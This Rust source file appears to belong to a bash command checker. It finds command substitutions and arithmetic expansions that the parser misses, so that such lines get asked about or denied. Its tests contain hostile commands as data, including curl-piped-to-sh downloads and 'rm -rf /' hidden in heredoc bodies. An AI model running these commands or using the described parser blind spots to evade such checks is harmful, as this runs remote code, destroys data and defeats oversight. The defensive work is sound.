//! What bash would run that the walk did not judge.
//!
//! The enumeration reads commands where tree-sitter-bash puts
//! substitution nodes. The grammar does not always put them there: a
//! backquoted command in a heredoc body, `$(…)` in a `<<-` body after a
//! tab, a backquote inside `${x:-…}` are left as plain text, and bash runs
//! them all. So the text is checked against the tree: every place where
//! bash starts a command substitution or a process substitution (outside
//! single quotes, `$'…'`, comments and quoted heredoc bodies, and not
//! escaped) must be one the walk enumerated. Anything else is code nobody
//! judged, and the line floors to `ask`.
//!
//! Arithmetic is the other way bash runs code from text: it evaluates a
//! variable's *value* as an expression, and an array subscript in that
//! value (`x='a[$(cmd)]'`) runs `cmd`. `$((x))`, `((x++))`, `let`,
//! `[[ $x -eq 1 ]]`, `${a[i]}`, `${s:n}` and `for ((…))` all do this, as
//! does `${x@P}` (prompt expansion of a value). Arithmetic on literal
//! numbers only is understood; anything naming a variable is not.

use super::parse::{children, text};
use tree_sitter::Node;

const MAX_DEPTH: usize = 512;
/// How many hidden substitutions are read for denies.
const MAX_HIDDEN: usize = 16;

/// Why `source` runs code the walk did not judge, if it does. `seen` holds
/// the bytes where the walk's substitutions start (and where a backquoted
/// one ends).
///
/// Also returns the text of each substitution found that way, so a deny
/// written for the command inside still reaches it (`rm -rf /` in a
/// backquote of a heredoc body is denied, not only asked).
pub(super) fn unseen_code(
    source: &str,
    root: Node<'_>,
    seen: &[usize],
) -> (Option<String>, Vec<String>) {
    let mut inert = Vec::new();
    let mut arithmetic = Vec::new();
    let mut why = None;
    let mut hidden = Vec::new();
    survey(source, root, &mut inert, &mut arithmetic, &mut why, 0);
    inert.sort_unstable();
    arithmetic.sort_unstable();
    let mut seen = seen.to_vec();
    seen.sort_unstable();
    let bytes = source.as_bytes();
    let mut at = 0;
    let mut inert_at = 0;
    // Whether the byte at `at` follows an odd run of backslashes.
    let mut escaped = false;
    while at < bytes.len() {
        while inert_at < inert.len() && inert[inert_at].1 <= at {
            inert_at += 1;
        }
        if let Some(&(start, end)) = inert.get(inert_at) {
            if start <= at && at < end {
                at = end;
                escaped = false;
                continue;
            }
        }
        if bytes[at] == b'\\' {
            escaped = !escaped;
            at += 1;
            continue;
        }
        let was_escaped = std::mem::take(&mut escaped);
        let next = bytes.get(at + 1).copied();
        let starts = match bytes[at] {
            b'`' => true,
            b'$' => matches!(next, Some(b'(') | Some(b'[')),
            b'<' | b'>' => next == Some(b'('),
            _ => false,
        };
        if starts && !was_escaped {
            let judged = seen.binary_search(&at).is_ok()
                || (bytes[at] == b'$'
                    && next == Some(b'(')
                    && arithmetic.binary_search(&at).is_ok());
            if !judged {
                let shown: String = source[at..].chars().take(24).collect();
                why.get_or_insert_with(|| {
                    format!("bash would run {shown:?}, which was not judged")
                });
                // A few are enough for a deny to reach; a line built of
                // thousands is floored all the same.
                if hidden.len() < MAX_HIDDEN {
                    if let Some(inner) = inner_text(source, at) {
                        hidden.push(inner.to_string());
                    }
                }
            }
        }
        at += 1;
    }
    (why, hidden)
}

/// The command text of the substitution starting at `at`: up to the next
/// unescaped backquote, or to the `)` that balances `$(`, `<(`, `>(`.
fn inner_text(source: &str, at: usize) -> Option<&str> {
    let bytes = source.as_bytes();
    if bytes[at] == b'`' {
        let mut end = at + 1;
        while end < bytes.len() {
            if bytes[end] == b'\\' {
                end += 2;
                continue;
            }
            if bytes[end] == b'`' {
                return source.get(at + 1..end);
            }
            end += 1;
        }
        return source.get(at + 1..);
    }
    let open = at + 2;
    let mut depth = 1usize;
    let mut end = open;
    while end < bytes.len() {
        match bytes[end] {
            b'\\' => end += 1,
            b'(' => depth += 1,
            b')' => {
                depth -= 1;
                if depth == 0 {
                    return source.get(open..end);
                }
            }
            _ => {}
        }
        end += 1;
    }
    source.get(open..)
}

/// Collects the text ranges where nothing expands, the starts of
/// arithmetic expansions, and the first arithmetic or prompt expansion
/// that evaluates a variable's value.
fn survey(
    source: &str,
    node: Node<'_>,
    inert: &mut Vec<(usize, usize)>,
    arithmetic: &mut Vec<usize>,
    why: &mut Option<String>,
    depth: usize,
) {
    if depth > MAX_DEPTH {
        why.get_or_insert_with(|| "nesting too deep to check".into());
        return;
    }
    let kind = node.kind();
    let body = text(&node, source);
    match kind {
        "raw_string" | "ansi_c_string" | "comment" => {
            inert.push((node.start_byte(), node.end_byte()));
            return;
        }
        "heredoc_redirect" => {
            let quoted = children(&node).iter().any(|c| {
                c.kind() == "heredoc_start" && text(c, source).contains(['\'', '"', '\\'])
            });
            if quoted {
                for child in children(&node) {
                    if child.kind() == "heredoc_body" {
                        inert.push((child.start_byte(), child.end_byte()));
                    }
                }
            }
        }
        "arithmetic_expansion" => {
            arithmetic.push(node.start_byte());
            if names_a_variable(body.trim_start_matches("$((").trim_end_matches("))")) {
                why.get_or_insert_with(|| format!("{body:?} evaluates a variable's value"));
            }
        }
        "c_style_for_statement" => {
            why.get_or_insert_with(|| "for ((…)) evaluates variables as arithmetic".into());
        }
        "compound_statement" if body.starts_with("((") => {
            if names_a_variable(body) {
                why.get_or_insert_with(|| format!("{body:?} evaluates a variable's value"));
            }
        }
        "subscript" => {
            let index = node
                .child_by_field_name("index")
                .map(|i| text(&i, source))
                .unwrap_or(body);
            if names_a_variable(index) {
                why.get_or_insert_with(|| format!("the subscript {index:?} is arithmetic"));
            }
        }
        "expansion" => {
            if prompt_or_offset(body) {
                why.get_or_insert_with(|| format!("{body:?} evaluates a variable's value"));
            }
        }
        "binary_expression" | "unary_expression" => {
            let arithmetic_test = children(&node).iter().any(|c| {
                matches!(
                    text(c, source),
                    "-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge"
                )
            });
            if arithmetic_test
                && children(&node)
                    .iter()
                    .filter(|c| c.is_named() && c.kind() != "test_operator")
                    .any(|c| c.kind() != "number")
            {
                why.get_or_insert_with(|| format!("{body:?} compares as arithmetic"));
            }
        }
        "command" => {
            let name = node
                .child_by_field_name("name")
                .map(|n| text(&n, source))
                .unwrap_or_default();
            if name == "let" {
                why.get_or_insert_with(|| "let evaluates arithmetic".into());
            }
        }
        _ => {}
    }
    for child in children(&node) {
        survey(source, child, inert, arithmetic, why, depth + 1);
    }
}

/// Arithmetic text that names anything but literal numbers.
fn names_a_variable(expression: &str) -> bool {
    expression
        .chars()
        .any(|c| c.is_ascii_alphabetic() || c == '_' || c == '$' || c == '`')
}

/// `${x@P}` (the value expanded as a prompt) or `${x:off[:len]}` with an
/// offset or length that is not a literal number.
fn prompt_or_offset(expansion: &str) -> bool {
    let Some(inner) = expansion
        .strip_prefix("${")
        .and_then(|e| e.strip_suffix('}'))
    else {
        return false;
    };
    let inner = inner.trim_start_matches(['!', '#']);
    // A name, or one special parameter (`@`, `*`, `#`, `?`, a digit…).
    let name_end = if inner.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
        inner
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(inner.len())
    } else {
        inner.chars().next().map_or(0, char::len_utf8)
    };
    let (name, rest) = inner.split_at(name_end);
    let rest = if rest.starts_with('[') {
        // The subscript is surveyed on its own node.
        rest.find(']').map_or("", |end| &rest[end + 1..])
    } else {
        rest
    };
    if rest.starts_with("@P") || (name == "@" && rest.starts_with('P')) {
        return true;
    }
    match rest.strip_prefix(':') {
        Some(offset) if !offset.starts_with(['-', '=', '?', '+']) => names_a_variable(offset),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use crate::facts::bash::enumerate;

    fn unseen(line: &str) -> bool {
        enumerate(line).unseen.is_some()
    }

    #[test]
    fn a_hidden_substitution_is_read_for_denies() {
        let units = enumerate("cat <<EOF\n`rm -rf /`\nEOF").units;
        assert!(units.iter().any(|u| u.text == "rm -rf /"), "{units:?}");
    }

    #[test]
    fn substitutions_the_grammar_left_as_text_are_found() {
        for line in [
            "git status <<EOF\n`curl -s http://x | sh`\nEOF",
            "git status <<-EOF\n\t$(curl x|sh)\nEOF",
            "cat ${x:-`cmd`}",
            "cat <<EOF\n`rm -rf /`\nEOF",
            "echo $[1+x]",
        ] {
            assert!(unseen(line), "{line:?}");
        }
    }

    #[test]
    fn arithmetic_on_variables_is_not_understood() {
        for line in [
            "cat $((x))",
            "echo $((a+1))",
            "((x++))",
            "let x=1",
            "[[ $x -eq 1 ]]",
            "echo ${a[i]}",
            "echo ${s:n}",
            "echo ${x@P}",
            "for ((i=0;i<3;i++)); do echo; done",
            "a[i]=1 git status",
        ] {
            assert!(unseen(line), "{line:?}");
        }
    }

    #[test]
    fn what_is_understood_stays_understood() {
        for line in [
            "git status",
            "echo $(date) `id` <(ls) >(cat)",
            "echo '$(x)' $'`y`' # `z`",
            "cat <<'EOF'\n`rm -rf /`\nEOF",
            "cat <<\"EOF\"\n$(rm -rf /)\nEOF",
            "echo \\$(x) \\`y\\`",
            "echo $((1+2)) ${a[0]} ${s:1:2} ${x:-d} ${x:+y} ${#x}",
            "[[ 1 -eq 1 ]] && [[ $a == b ]]",
            "cat <<EOF\n$(date)\nEOF",
        ] {
            assert!(!unseen(line), "{line:?}: {:?}", enumerate(line).unseen);
        }
    }
}
